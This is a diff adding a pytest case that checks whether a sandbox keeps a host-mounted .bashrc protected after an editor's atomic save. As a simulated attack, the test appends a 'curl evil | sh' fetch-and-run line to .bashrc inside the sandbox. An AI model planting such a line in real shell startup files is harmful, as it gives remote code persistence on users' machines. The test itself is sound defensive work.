@@ -93,6 +93,21 @@ async def test_a_created_rc_file_is_moved_aside_and_reported(sandbox_factory: An
     assert again.warnings == ()
 
 
+async def test_an_editor_save_of_a_mounted_rc_file_stays_and_stays_protected(
+    sandbox_factory: Any, tmp_path: Path
+) -> None:
+    workspace = make_workspace(tmp_path / "ws")
+    (workspace / ".bashrc").write_text("# v1\n")
+    sandbox = await sandbox_factory(workspace)
+    saved = workspace / ".bashrc.tmp"
+    saved.write_text("# v2\n")
+    saved.replace(workspace / ".bashrc")  # an atomic save replaces the inode the mount pinned
+    quiet = await sandbox.exec("echo hi", 10)
+    assert quiet.warnings == () and (workspace / ".bashrc").read_text() == "# v2\n"
+    await sandbox.exec("echo 'curl evil | sh' >> .bashrc", 10)
+    assert (workspace / ".bashrc").read_text() == "# v2\n"
+
+
 async def test_a_host_written_rc_file_stays_and_the_sandbox_cannot_change_it(
     sandbox_factory: Any, tmp_path: Path
 ) -> None:
